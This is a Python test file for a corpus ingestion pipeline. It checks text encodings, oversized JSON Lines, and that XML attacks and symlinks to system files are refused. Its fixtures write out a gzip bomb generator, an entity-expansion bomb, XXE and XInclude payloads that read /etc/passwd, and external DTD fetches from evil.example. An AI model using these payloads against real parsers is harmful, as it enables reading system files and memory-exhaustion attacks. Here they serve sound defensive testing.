"""Issue 14, rows 5 and 6 and the XML weak spots: text in other encodings, oversized JSON Lines and gzip
bombs, XML attacks and links to system files."""

from __future__ import annotations

import json
from pathlib import Path

from fault_fixtures import GERMAN

from pipeline.store import CorpusStore

# -- 5: text files in other encodings ------------------------------------------------------------------------


def test_text_files_in_utf16_and_utf32_are_decoded(tmp_path: Path, store_path: Path, runner) -> None:
    import random

    from pipeline.cli import cli

    encoded = {
        "utf8-bom.txt": GERMAN.encode("utf-8-sig"),
        "utf16-le-bom.txt": GERMAN.encode("utf-16"),  # Python writes the BOM, little-endian here
        "utf16-be-bom.txt": b"\xfe\xff" + GERMAN.encode("utf-16-be"),
        "utf16-le.txt": GERMAN.encode("utf-16-le"),  # no BOM: the NUL bytes tell
        "utf16-be.md": ("# Pflege digital\n\n" + GERMAN).encode("utf-16-be"),
        "utf32-bom.txt": GERMAN.encode("utf-32"),
        "utf32-be.txt": GERMAN.encode("utf-32-be"),
        "cp1252.txt": GERMAN.encode("cp1252"),
        "binaer.txt": random.Random(14).randbytes(6000),
    }
    raw = tmp_path / "raw"
    raw.mkdir()
    for name, data in encoded.items():
        (raw / name).write_bytes(data)
    res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(raw)])
    assert res.exit_code == 1, res.output
    problems = res.stderr.strip().splitlines()
    assert len(problems) == 1 and problems[0].startswith(f"{raw / 'binaer.txt'}: ")
    assert "not readable as text" in problems[0]
    with CorpusStore(store_path) as store:
        docs = {Path(d.source_path).name: d for d in store.iter_documents()}
        texts = {name: store.get_pages(d.id)[0].text for name, d in docs.items() if d.status == "extracted"}
    assert docs["binaer.txt"].status == "failed" and "not readable as text" in docs["binaer.txt"].error
    for name in encoded:
        if name != "binaer.txt":
            assert GERMAN in texts[name], (name, texts[name][:60])
    assert docs["utf16-le.txt"].meta["encoding"] == "utf-16-le"
    assert docs["utf32-bom.txt"].meta["encoding"] == "utf-32-le"
    assert docs["cp1252.txt"].meta["encoding"] == "cp1252"
    assert docs["utf16-be.md"].title == "Pflege digital"


# -- 6: JSON Lines that are too big ---------------------------------------------------------------------------


def _speech(i: int) -> bytes:
    return json.dumps({"id": f"R{i}", "text": f"Rede {i}: {GERMAN}", "date": "2019-05-02"}).encode() + b"\n"


def gzip_bomb(path: Path, inflated_mb: int) -> Path:
    """Two speeches, then one line whose text inflates to ``inflated_mb`` MB (gzip members of one compressed
    MB each: a few KB on disk per thousand MB), then a third speech."""
    import gzip

    member = gzip.compress(b"a" * (1 << 20), compresslevel=9, mtime=0)
    with open(path, "wb") as fh:
        fh.write(gzip.compress(_speech(1) + _speech(2) + b'{"id": "bomb", "text": "', mtime=0))
        for _ in range(inflated_mb):
            fh.write(member)
        fh.write(gzip.compress(b'"}\n' + _speech(3), mtime=0))
    return path


PEAK_RSS = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))  # the old reader died here, not the machine
from pipeline import ingest
from pipeline.config import IngestConfig
from pipeline.store import CorpusStore
with CorpusStore(sys.argv[1]) as store:
    result = ingest.run(store, sys.argv[2:], IngestConfig())
    ids = sorted(d.record_key or d.source_path for d in store.iter_documents())
peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps({"failed": result.failed, "ids": ids, "peak_mb": peak_mb}))
"""


def test_gzip_bomb_fails_fast_with_bounded_memory(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    bomb = gzip_bomb(tmp_path / "reden.jsonl.gz", inflated_mb=3000)
    assert bomb.stat().st_size < 4 << 20  # a 3 MB file that inflates to 3 GB
    other = tmp_path / "andere.jsonl"
    other.write_bytes(_speech(7))
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    proc = subprocess.run([sys.executable, "-c", PEAK_RSS, str(tmp_path / "c.db"), str(bomb), str(other)],
                          capture_output=True, text=True, env=env, timeout=120)  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["ids"] == ["R1", "R2", "R7"]  # the records before the bomb and the rest of the batch
    (where, problem), *rest = out["failed"]
    assert not rest and where == f"{bomb}:3" and "decompression bomb" in problem
    assert out["peak_mb"] < 600, out  # inflating the line would need 3,000 MB


def test_oversized_and_deeply_nested_lines_are_skipped(tmp_path: Path, store_path: Path, runner) -> None:
    import gzip
    import random

    from pipeline.cli import cli

    rng = random.Random(6)
    huge = json.dumps({"id": "riesig", "text": "".join(rng.choices("abcdefgh ", k=(1 << 20) + 10))}).encode()
    lines = [_speech(1), huge + b"\n", b"[" * 100_000 + b"\n", b'{"id": "latin1", "text": "Gr\xf6\xdfe"}\n',
             _speech(2)]  # fmt: skip
    (tmp_path / "reden.jsonl").write_bytes(b"".join(lines))
    (tmp_path / "reden2.jsonl.gz").write_bytes(gzip.compress(b"".join(lines).replace(b'"R', b'"G')))
    res = runner.invoke(cli, ["--store", str(store_path), "--set", "ingest.max_record_mb=1", "ingest",
                              str(tmp_path / "reden.jsonl"), str(tmp_path / "reden2.jsonl.gz")])  # fmt: skip
    assert res.exit_code == 1, res.output
    problems = sorted(res.stderr.strip().splitlines())
    assert len(problems) == 6, problems
    for name in ("reden.jsonl", "reden2.jsonl.gz"):
        mine = [p for p in problems if p.startswith(f"{tmp_path / name}:")]
        assert "longer than 1 MB (ingest.max_record_mb)" in mine[0] and mine[0].split(": ")[0].endswith(":2")
        assert "nested too deeply" in mine[1] and mine[1].split(": ")[0].endswith(":3")
        assert "not UTF-8" in mine[2] and mine[2].split(": ")[0].endswith(":4")
    with CorpusStore(store_path) as store:
        keys = sorted(d.record_key for d in store.iter_documents())
    assert keys == ["G1", "G2", "R1", "R2"]  # the records before and after the bad lines went in


# -- XML attacks and links to system files ------------------------------------------------------------------

SPEECH = '<text person="Norbert Lammert" titel="Rede am 9. November 2007" datum="2007-11-09"><rohtext>{}</rohtext></text>'
XML_ATTACKS = {
    "bombe.xml": ("declares entities", '<!DOCTYPE collection [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><collection>' + SPEECH.format("&c;") + "</collection>"),
    "xxe.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY x SYSTEM "file:///etc/passwd">]><collection>'
                + SPEECH.format("Hallo &x;") + "</collection>"),
    "parameter.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
                      "<collection>" + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
    "dtd.xml": ("external DTD", '<!DOCTYPE collection SYSTEM "http://evil.example/x.dtd"><collection>'
                + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
    "xinclude.xml": ("XInclude", '<collection xmlns:xi="http://www.w3.org/2001/XInclude">'
                     + SPEECH.format('Hallo <xi:include href="/etc/passwd" parse="text"/>') + "</collection>"),
}  # fmt: skip


def test_xml_attacks_are_refused_with_the_reason_and_leak_nothing(
    tmp_path: Path, store_path: Path, runner
) -> None:
    import os

    from pipeline.cli import cli

    raw = tmp_path / "raw"
    raw.mkdir()
    for name, (_, body) in XML_ATTACKS.items():
        (raw / name).write_text('<?xml version="1.0" encoding="UTF-8"?>\n' + body, encoding="utf-8")
    good = (
        "<!DOCTYPE collection [<!ELEMENT collection (text+)>]><collection>"
        + SPEECH.format(GERMAN)
        + "</collection>"
    )
    (raw / "gut.xml").write_text(good, encoding="utf-8")
    os.symlink("/etc/passwd", raw / "passwd.txt")  # a link to a system file under a supported name
    os.symlink("/etc/hosts", tmp_path / "hosts")
    os.symlink("/dev/zero", tmp_path / "null.txt")
    args = [
        "--store",
        str(store_path),
        "ingest",
        str(raw),
        str(tmp_path / "hosts"),
        str(tmp_path / "null.txt"),
    ]
    res = runner.invoke(cli, args)
    assert res.exit_code == 1, res.output
    lines = res.stderr.strip().splitlines()
    assert len(lines) == len(XML_ATTACKS) + 3, lines
    for name, (reason, _) in XML_ATTACKS.items():
        line = next(ln for ln in lines if ln.startswith(f"{raw / name}: "))
        assert reason in line and "refused" in line, line
    link = next(ln for ln in lines if ln.startswith(f"{tmp_path / 'hosts'}: "))
    assert "symbolic link to /etc/hosts" in link and "unsupported format ''" not in link
    assert "symbolic link to /etc/passwd" in next(
        ln for ln in lines if ln.startswith(f"{raw / 'passwd.txt'}: ")
    )
    assert "not a regular file" in next(ln for ln in lines if ln.startswith(f"{tmp_path / 'null.txt'}: "))
    with CorpusStore(store_path) as store:
        docs = list(store.iter_documents())
        texts = [p.text for d in docs for p in store.get_pages(d.id)]
    assert [Path(d.source_path).name for d in docs if d.status == "extracted"] == ["gut.xml"]
    assert not any("root:" in t or "aaaaaaaaaa" in t for t in texts)
